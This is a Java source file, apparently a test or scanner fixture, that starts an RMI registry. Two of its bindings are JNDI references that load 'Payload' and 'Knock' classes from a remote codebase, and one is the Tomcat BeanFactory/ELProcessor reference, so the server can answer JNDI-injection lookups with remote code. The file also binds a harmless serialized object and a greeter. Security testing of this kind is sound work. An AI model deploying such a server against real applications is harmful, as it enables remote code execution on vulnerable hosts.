/* SPDX-License-Identifier: GPL-2.0-or-later */
import com.sun.jndi.rmi.registry.ReferenceWrapper;
import java.io.Serializable;
import java.rmi.Remote;
import java.rmi.RemoteException;
import java.rmi.registry.LocateRegistry;
import java.rmi.server.UnicastRemoteObject;
import javax.naming.Reference;

/** The JDK's RMI registry with objects in it: Registry ADDRESS PORT CODEBASE. */
public final class Registry {
    public interface Greeter extends Remote {
        String greet(String name) throws RemoteException;
    }

    private static final class Polite extends UnicastRemoteObject implements Greeter {
        private static final long serialVersionUID = 1;

        Polite() throws RemoteException {
        }

        @Override
        public String greet(String name) {
            return "good day, " + name;
        }
    }

    /** Not exported: what a lookup gets is the object itself, serialized. */
    private static final class Parcel implements Remote, Serializable {
        private static final long serialVersionUID = 1;
        private final java.util.HashMap<String, Integer> content = new java.util.HashMap<>(java.util.Map.of("harmless", 1));
    }

    public static void main(String[] arguments) throws Exception {
        System.setProperty("java.rmi.server.hostname", arguments[0]);
        var registry = LocateRegistry.createRegistry(Integer.parseInt(arguments[1]));
        registry.rebind("remote", new ReferenceWrapper(new Reference("Payload", "Payload", arguments[2])));
        registry.rebind("knock", new ReferenceWrapper(new Reference("Knock", "Knock", arguments[2])));
        registry.rebind("local", new ReferenceWrapper(new Reference("javax.el.ELProcessor", "org.apache.naming.factory.BeanFactory", null)));
        registry.rebind("parcel", new Parcel());
        registry.rebind("greeter", new Polite());
        System.out.println("ready");
        Thread.currentThread().join();
    }
}
